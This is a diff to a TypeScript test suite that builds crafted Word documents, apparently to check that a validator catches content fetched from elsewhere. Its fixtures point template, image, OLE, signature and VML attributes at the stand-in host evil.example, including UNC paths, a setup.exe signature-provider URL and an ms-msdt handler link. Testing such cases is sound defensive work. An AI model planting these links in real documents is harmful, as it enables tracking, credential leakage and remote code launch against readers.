@@ -87,14 +87,19 @@ const fetched: Hostile[] = [
     }),
     'fetched from elsewhere',
   ),
-  ...['<w:attachedTemplate r:id="r0"/>', '<w:p><a:blip r:link="r0"/></w:p>', '<o:OLEObject o:relid="r0"/>'].map((use) =>
-    hostile(
-      `that uses a link as ${use}`,
-      docxFile({
-        'word/document.xml': wordDocument(use),
-        'word/_rels/document.xml.rels': relationships(['hyperlink', 'http://evil.example/x', 'External']),
-      }),
-      'fetched from elsewhere',
+  ...[
+    ...['<w:attachedTemplate r:id="r0"/>', '<w:p><a:blip r:link="r0"/></w:p>', '<o:OLEObject o:relid="r0"/>'],
+    ...['<w:pict><v:imagedata r:id="r0"/></w:pict>', '<v:fill r:id="r0"/>', '<o:OLEObject Type="Link" r:id="r0"/>'],
+  ].flatMap((use) =>
+    ['http://evil.example/x', 'file:///net/evil.example/x.png', '/net/evil.example/x.png', 'x.png', ''].map((target) =>
+      hostile(
+        `that uses a link to "${target}" as ${use}`,
+        docxFile({
+          'word/document.xml': wordDocument(use),
+          'word/_rels/document.xml.rels': relationships(['hyperlink', target, 'External']),
+        }),
+        'fetched from elsewhere',
+      ),
     ),
   ),
   ...[
@@ -112,17 +117,6 @@ const fetched: Hostile[] = [
       ),
     ),
   ),
-  ...['Reference', 'RetrievalMethod'].flatMap((name) =>
-    ['http://evil.example/x', '//evil.example/x', 'file:///x', '\\\\evil.example\\x'].map((address) =>
-      hostile(
-        `with a signature whose ${name} leads to ${address}`,
-        docxFile({
-          '_xmlsignatures/sig1.xml': `<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><${name} URI="${address}"/></SignedInfo></Signature>`,
-        }),
-        'fetched from elsewhere',
-      ),
-    ),
-  ),
   ...['manifestLocation', 'schemaLocation'].map((name) =>
     hostile(
       `with a ${name}`,
@@ -133,6 +127,7 @@ const fetched: Hostile[] = [
   ...[
     ...['src="http://evil.example/x.png"', 'src="\\\\evil.example\\x.png"', 'href="//evil.example/x"'],
     ...['href="http://evil.example/x"', 'o:href="http://evil.example/x"', 'o:althref="http://evil.example/x"'],
+    ...['o:sigprovurl="file:///\\evil.examplesharesetup.exe"', 'o:sigprovurl="https://evil.example/x"'],
     ...['o:href="/??/UNC/evil.example/x"', 'o:althref="ms-msdt:/id x"', 'src="\\Device\\Mup\\evil.example\\x"'],
   ].map((attribute) =>
     hostile(
